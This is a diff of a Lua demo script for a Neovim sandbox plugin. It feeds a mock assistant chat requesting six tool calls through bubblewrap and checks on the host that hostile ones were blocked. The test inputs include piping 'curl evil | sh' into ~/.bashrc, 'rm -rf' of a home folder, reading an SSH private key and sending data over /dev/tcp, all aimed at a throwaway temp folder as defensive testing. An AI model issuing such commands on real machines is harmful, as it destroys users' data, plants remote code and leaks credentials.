@@ -1,12 +1,14 @@
---- make demo: one sandboxed tool call after another, through the public API
---- and real bubblewrap, each checked on the host afterwards. Everything it
---- touches lives in a fresh folder under /var/tmp, never in your home.
-package.path = "lua/?.lua;lua/?/init.lua;spec/?.lua;" .. package.path
-package.cpath = "lua/?.so;" .. package.cpath
+--- make demo (inside headless Neovim): a .chat buffer whose assistant asks for
+--- six tool calls, run through the sandbox with :Flemma tool:execute-all;
+--- then each outcome is checked on the host. Everything it touches lives in
+--- a fresh folder under /var/tmp, never in your home.
+local root = vim.fn.getcwd()
+vim.opt.runtimepath:prepend(root)
+package.path = root .. "/spec/?.lua;" .. package.path
+vim.cmd("runtime plugin/flemma_sandbox.lua")
 
 local h = require("support.helpers")
 local net = require("support.net")
-local host = require("flemma.sandbox.host")
 local sandbox = require("flemma.sandbox")
 
 local dir = h.tmpdir()
@@ -14,84 +16,66 @@ local project, home = dir .. "/project", dir .. "/home"
 h.sh("mkdir -p " .. h.shell_quote(project) .. " " .. h.shell_quote(home .. "/.ssh"))
 h.write(home .. "/.bashrc", "# your shell setup\n")
 h.write(home .. "/.ssh/id_ed25519", "PRIVATE KEY\n")
-host.use({
-  cwd = function()
-    return project
-  end,
-})
+vim.cmd("cd " .. vim.fn.fnameescape(project))
 
 sandbox.setup({
-  policy = {
-    rw_paths = { "$CWD" },
-    deny_paths = { home .. "/.ssh" },
-    network = false,
-  },
+  policy = { rw_paths = { "$CWD" }, deny_paths = { home .. "/.ssh" }, network = false },
+  approval = { bash = "allow", write_file = "allow" }, -- no questions in a demo
 })
-
 local ok, why = sandbox.validate_backend()
 if not ok then
   io.stderr:write("No sandbox backend works here: " .. tostring(why) .. "\n")
   os.exit(1)
 end
 
-local policy = sandbox.get_policy()
-print("flemma-sandbox demo (" .. dir .. ")")
-print("writable: " .. table.concat(policy.rw_paths, ", ") .. "   network: off   hidden: ~/.ssh\n")
-
 local listener = net.listen()
-local results, failures = {}, 0
-
---- Runs `script` with bash inside the sandbox, then asks `check` what the host saw.
-local function tool_call(title, script, expect_blocked, check)
-  local argv = assert(sandbox.wrap_command({ "bash", "-c", script }))
-  local r = h.run(argv, nil, project)
-  local held, seen = check(r)
-  local verdict = expect_blocked and "BLOCKED" or "ALLOWED"
-  if not held then
-    verdict = "UNEXPECTED"
-    failures = failures + 1
-  end
-  results[#results + 1] = { title, script, r.code, verdict, seen }
+local calls = {
+  { "bash", "write a file in the project", { command = "echo hello > notes.txt && cat notes.txt" } },
+  { "bash", "append to ~/.bashrc", { command = "echo 'curl evil | sh' >> " .. home .. "/.bashrc" } },
+  { "bash", "rm -rf the home folder", { command = "rm -rf " .. home } },
+  { "bash", "read the SSH key", { command = "cat " .. home .. "/.ssh/id_ed25519" } },
+  { "bash", "send data to a host port", { command = "echo secret > /dev/tcp/127.0.0.1/" .. listener.port } },
+  { "write_file", "write_file outside the project", { path = home .. "/.profile", content = "evil" } },
+}
+local lines = { "@You: tidy up my machine", "", "@Assistant: Running these:", "" }
+for i, c in ipairs(calls) do
+  vim.list_extend(lines, { "**Tool Use:** `" .. c[1] .. "` (`call_" .. i .. "`)", "", "```json" })
+  vim.list_extend(lines, { vim.json.encode(c[3]), "```", "" })
+end
+h.write(dir .. "/demo.chat", table.concat(lines, "\n"))
+vim.cmd("edit " .. vim.fn.fnameescape(dir .. "/demo.chat"))
+local chat = require("flemma.sandbox.chat")
+local buf = vim.api.nvim_get_current_buf()
+vim.cmd("Flemma tool:execute-all")
+vim.wait(30000, function()
+  return #chat.running(buf) == 0
+end, 20)
+local answered = {}
+for _, call in ipairs(chat.parse(vim.api.nvim_buf_get_lines(buf, 0, -1, false))) do
+  answered[call.id] = call.has_result
 end
 
-tool_call("write a file in the project", "echo hello > notes.txt", false, function(r)
-  local content = h.read(project .. "/notes.txt")
-  return r.code == 0 and content == "hello\n",
-    "host: project/notes.txt = " .. (content or "(missing)"):gsub("\n", "\\n")
-end)
-
-tool_call("append to ~/.bashrc", "echo 'curl evil | sh' >> " .. home .. "/.bashrc", true, function(r)
-  local content = h.read(home .. "/.bashrc")
-  return r.code ~= 0 and content == "# your shell setup\n", "host: .bashrc unchanged"
-end)
-
-tool_call("rm -rf the home folder", "rm -rf " .. home, true, function()
-  local still = h.read(home .. "/.bashrc") ~= nil
-  return still, "host: home folder still there"
-end)
-
-tool_call("read the SSH key", "cat " .. home .. "/.ssh/id_ed25519", true, function(r)
-  return not r.stdout:find("PRIVATE"), "sandbox saw an empty ~/.ssh"
-end)
-
-tool_call("send data to a host port", "echo secret > /dev/tcp/127.0.0.1/" .. listener.port, true, function(r)
-  return r.code ~= 0 and not listener.accepted(), "host listener on 127.0.0.1:" .. listener.port .. " got nothing"
-end)
-
-tool_call("look at host processes", "ls /proc | grep -c '^[0-9]'", false, function(r)
-  local n = tonumber(r.stdout:match("%d+"))
-  return n ~= nil and n <= 4, "the sandbox sees " .. tostring(n) .. " processes (its own)"
-end)
-
+local checks = {
+  h.read(project .. "/notes.txt") == "hello\n",
+  h.read(home .. "/.bashrc") == "# your shell setup\n",
+  h.read(home .. "/.bashrc") ~= nil,
+  not table.concat(vim.api.nvim_buf_get_lines(0, 0, -1, false), "\n"):find("PRIVATE KEY", 1, true),
+  not listener.accepted(),
+  h.read(home .. "/.profile") == nil,
+}
+local expect = { "ALLOWED", "BLOCKED", "BLOCKED", "BLOCKED", "BLOCKED", "BLOCKED" }
+local out = { "flemma-sandbox demo: " .. dir, "", "--- the chat buffer after :Flemma tool:execute-all ---" }
+vim.list_extend(out, vim.api.nvim_buf_get_lines(0, 0, -1, false))
+vim.list_extend(out, { "--- checked on the host ---" })
+local failures = 0
+for i, c in ipairs(calls) do
+  local held = checks[i] and answered["call_" .. i] -- it ran, and the host shows the promised outcome
+  local verdict = held and expect[i] or "UNEXPECTED"
+  failures = failures + (held and 0 or 1)
+  out[#out + 1] = string.format("%-10s %s", verdict, c[2])
+end
 listener.close()
-for _, row in ipairs(results) do
-  print(string.format("%-10s %s", row[4], row[1]))
-  print(string.format("           $ %s   (exit %d; %s)", row[2], row[3], row[5]))
-end
-local argv = sandbox.wrap_command({ "bash", "-c", "..." })
-print("\nwrapped argv: " .. table.concat(argv, " "))
+io.stdout:write(table.concat(out, "\n") .. "\n")
+vim.cmd("cd " .. vim.fn.fnameescape(root))
 h.rmdir(dir)
-if failures > 0 then
-  print(failures .. " result(s) were not what the sandbox promises")
-  os.exit(1)
-end
+os.exit(failures == 0 and 0 or 1)
